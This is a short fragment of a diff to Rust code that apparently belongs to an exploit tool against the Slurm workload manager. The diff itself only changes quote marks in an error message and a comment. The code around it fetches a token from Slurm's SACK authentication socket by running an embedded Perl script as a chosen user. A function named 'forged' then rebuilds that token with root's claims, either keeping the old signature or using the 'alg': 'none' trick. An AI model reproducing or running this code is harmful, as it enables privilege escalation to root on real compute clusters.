@@ -165,12 +165,12 @@ print unpack('Z*', substr($answer, 4));
         let reader = if self.restricted { "0" } else { "4294967295" };
         let argv = ["perl", "-e", SACK, reader, &hex(&self.payload)];
         let token = node.command(&argv).user(self.by).output()?.ok()?;
-        ensure!(token.contains('.'), "the SACK socket gave «{token}»");
+        ensure!(token.contains('.'), "the SACK socket gave '{token}'");
         Ok((SLURM, token.trim().to_owned()))
     }
 }
 
-/// That token with root's claims, its signature as it was, or with none and «alg»: «none».
+/// That token with root's claims, its signature as it was, or with none and "alg": "none".
 pub fn forged(credential: &(u32, String), unsigned: bool) -> Result<(u32, String)> {
     let [header, claims, signature] = credential.1.split('.').collect::<Vec<_>>()[..] else {
         bail!("no token: {}", credential.1)
